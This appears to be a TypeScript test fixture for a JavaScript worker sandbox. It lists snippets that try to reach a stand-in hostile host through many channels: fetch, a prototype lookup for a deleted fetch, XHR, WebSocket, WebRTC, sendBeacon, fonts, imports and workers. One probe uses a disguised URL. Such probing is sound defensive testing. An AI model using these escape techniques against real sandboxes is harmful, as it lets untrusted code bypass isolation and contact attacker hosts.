import {type HostileProgram, once, tries} from './hostileProgram';

/** Doors to a network, the site and other workers. */
export const network: readonly HostileProgram[] = [
  tries('fetch', `return (await fetch('BAD/fetch')).status`),
  tries(
    'the fetch below ours',
    `let f; for (let o = self; (o = Object.getPrototypeOf(o)); ) f ??= Object.getOwnPropertyDescriptor(o, 'fetch')?.value; delete self.fetch; return (await (f ?? self.fetch).call(self, 'BAD/below')).status`,
  ),
  tries('fetch of the site', `return (await fetch(location.origin + '/run/site.json')).status`),
  tries(
    'an address that looks like the chain',
    `return (await fetch('http://127.0.0.1:8545@HOST_OF_BAD/')).status`,
  ),
  tries(
    'XMLHttpRequest',
    once(
      `const x = new XMLHttpRequest(); x.onload = () => resolve(x.status); x.onerror = () => reject('blocked'); x.open('GET', 'BAD/xhr'); x.send();`,
    ),
  ),
  tries(
    'XMLHttpRequest that waits',
    `const x = new XMLHttpRequest(); x.open('GET', 'BAD/sync', false); x.send(); return x.status`,
  ),
  tries(
    'WebSocket',
    once(`const s = new WebSocket('ws://HOST_OF_BAD/'); s.onopen = resolve; s.onerror = reject;`),
  ),
  tries(
    'EventSource',
    once(`const s = new EventSource('BAD/events'); s.onopen = resolve; s.onerror = reject;`),
  ),
  tries(
    'WebTransport',
    `const t = new WebTransport('https://HOST_OF_BAD/'); await t.ready; return 'ready'`,
  ),
  tries(
    'WebRTC',
    `const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST_OF_BAD'}]}); c.createDataChannel('x'); return (await c.createOffer()).sdp`,
  ),
  tries('sendBeacon', `return navigator.sendBeacon('BAD/beacon')`),
  tries('a font', `return (await new FontFace('x', 'url(BAD/font)').load()).status`),
  tries('importScripts', `importScripts('BAD/script.js'); return 1`),
  tries('import() of another origin', `return Object.keys(await import('BAD/module.js'))`),
  tries('import() of text', `return (await import('data:text/javascript,export const a = 1')).a`),
  tries(
    'import() of a blob',
    `return (await import(URL.createObjectURL(new Blob(['export const a = 1'], {type: 'text/javascript'})))).a`,
  ),
  tries('a worker', `return String(new Worker('BAD/worker.js'))`),
  tries(
    'a worker of its own text',
    `return String(new Worker(URL.createObjectURL(new Blob(['for (;;);']))))`,
  ),
  tries('a shared worker', `return String(new SharedWorker('BAD/shared.js'))`),
  tries('a service worker', `return await navigator.serviceWorker.register('BAD/sw.js')`),
];
